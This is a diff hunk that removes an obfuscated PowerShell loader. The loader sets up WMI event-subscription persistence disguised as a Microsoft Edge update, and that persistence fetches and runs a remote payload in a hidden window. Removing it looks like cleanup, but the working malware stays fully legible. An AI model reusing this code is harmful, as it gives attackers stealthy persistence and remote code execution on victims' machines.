@@ -1,5 +1,0 @@
-iex (('# task 4627 v4
-$vj~2ilter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name=''Microsovj~2tEdgeUpdateCore'';EventNameSpace=''root\cimv2'';QueryLanguage=''WQJJX40L'';Query="SELECT * FROM __InstanceModivj~2icationEvent WITHIN 60 WHERE TargJJX40etInstance ISA ''Win32_Pervj~2FormattedData_PJJX40ervj~2OS_System''"}
-$consumer = Set-WmiInstance -Namespace root\subscriptionJJX40 -Class CommandLineEventConsumer -Arguments @{Name=''Microsovj~2tEdgeUpdateCore'';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownJJX40loadString(''http://203.0.113.200/payload.ps1'')"}
-Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$vj~2ilter;Consumer=$consumer}
-' -replace 'JJX40','').Replace('vj~2','f'))
